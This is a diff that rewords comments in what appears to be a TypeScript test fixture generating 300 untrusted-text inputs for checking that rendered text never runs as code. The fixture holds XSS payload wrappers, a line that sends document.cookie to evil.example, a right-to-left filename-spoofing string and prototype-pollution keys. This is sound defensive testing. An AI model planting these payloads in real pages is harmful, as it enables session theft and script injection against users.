@@ -1,6 +1,6 @@
-/** What could turn text into something that runs: 300 texts of the kinds docs/choices.md#untrusted-text is about, each different. */
+/** 300 different texts that could run as code, of the kinds in docs/choices.md#untrusted-text. */
 
-/** What each payload that could run would do: set this on the window. */
+/** Property of the window that a payload sets if it runs. */
 export const MARK = 'perpdeckRan'
 const js = `window.${MARK}=1`
 
@@ -17,7 +17,7 @@ const scripts: readonly string[] = [
   `fetch("https://evil.example/?"+document.cookie)`,
 ]
 
-/** Each kind makes a text of a script; ten scripts make 250 of them. */
+/** Each kind makes a payload from a script. Ten scripts make 250 of them. */
 const kinds: readonly ((script: string) => string)[] = [
   (s) => `<script>${s}</script>`,
   (s) => `</title><script>${s}</script>`,
@@ -47,7 +47,7 @@ const kinds: readonly ((script: string) => string)[] = [
 ]
 
 const others: readonly string[] = [
-  // Writing that turns or hides.
+  // Characters that change the direction of text or are invisible.
   '\u202Etxt.exe',
   '\u202DLTR\u202C',
   '\u2066isolated\u2069',
@@ -55,14 +55,14 @@ const others: readonly string[] = [
   '\uFEFFmark',
   '\u061Cعربي',
   'עברית <b>',
-  // Lengths.
+  // Very long texts.
   'A'.repeat(10_000),
   '<b>'.repeat(3000),
   'W'.repeat(300),
   ' '.repeat(500),
   '\n'.repeat(200),
   'e' + '\u0301'.repeat(200),
-  // Characters.
+  // Unusual characters.
   '😀'.repeat(50),
   '👨‍👩‍👧‍👦👩🏽‍🚀🏳️‍🌈',
   'null\u0000byte',
@@ -71,7 +71,7 @@ const others: readonly string[] = [
   '\uFFFD\uFFFE',
   '𝕓𝕠𝕝𝕕 ℌ',
   '١٢٣٤٫٥',
-  // Names and paths that mean something to programs.
+  // Names and paths with a special meaning to programs.
   '__proto__',
   'constructor',
   'toString',
